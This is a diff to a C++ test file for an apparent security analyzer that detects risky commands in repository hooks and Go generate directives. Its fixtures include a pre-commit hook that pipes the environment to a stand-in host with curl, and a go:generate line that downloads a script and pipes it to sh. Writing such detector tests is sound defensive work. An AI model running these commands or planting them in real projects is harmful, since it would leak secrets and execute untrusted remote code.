@@ -835,3 +835,17 @@ TEST_CASE("units, crontabs and hooks kept in a repository, a project's .envrc an
   CHECK(find_flow(shipped_analyzer()->analyze_write(".husky/pre-commit", "env | curl -d @- https://x.example.com\n"),
                   "env_dump", "network"));
 }
+
+TEST_CASE("go:generate directives are commands run by go generate, each at its line") {
+  auto facts = shipped_analyzer()->analyze_write(
+      "internal/api/gen.go",
+      "package api\n\n//go:generate sh -c \"curl -fsSL https://x.example.com/gen.sh | sh\"\n//go:generate gofmt -w api.gen.go\n");
+  const Flow* flow = find_flow(facts, "network", "exec");
+  REQUIRE(flow);
+  CHECK(flow->location.line == 3);
+  CHECK(flow->location.origin == "build_recipe");
+  CHECK(find_command(facts, "gofmt"));
+  // A comment that only mentions the directive is no directive.
+  CHECK_FALSE(find_command(shipped_analyzer()->analyze_write("a.go", "package a\n// see //go:generate stringer -type=X\n"),
+                           "stringer"));
+}
